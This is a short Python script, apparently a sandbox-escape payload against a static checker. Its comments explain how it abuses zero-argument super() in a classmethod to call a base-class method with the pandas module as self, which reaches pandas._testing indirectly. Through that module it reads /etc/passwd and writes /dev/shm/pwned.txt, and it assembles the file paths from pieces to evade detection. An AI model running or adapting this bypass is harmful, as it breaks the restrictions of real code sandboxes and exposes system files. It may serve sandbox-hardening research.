# source: Python super() semantics (super(T, type) returns unbound functions); pyjail unbound-method trick; the README's list of refusals in the static check
# family: zero-arg super() inside a classmethod yields the base class's plain function -> called with the pandas module as self -> self._testing
# goal: pandas._testing -> decompress_file reads /etc/passwd, write_to_compressed writes /dev/shm/pwned.txt
import pandas as pd


class Cfg:
    def __init__(self):
        self._testing = None

    def helper(self):
        return self._testing


class Child(Cfg):
    @classmethod
    def grab(cls, obj):
        return super().helper(obj)


t = Child.grab(pd)
print(t)
p = "/".join(["", "etc", "passwd"])
with t.decompress_file(p, None) as fh:
    print(fh.read().decode()[:300])
t.write_to_compressed("gzip", "/".join(["", "dev", "shm", "pwned.txt"]), b"written by script")
with t.decompress_file("/".join(["", "dev", "shm", "pwned.txt"]), "gzip") as fh:
    print(fh.read())
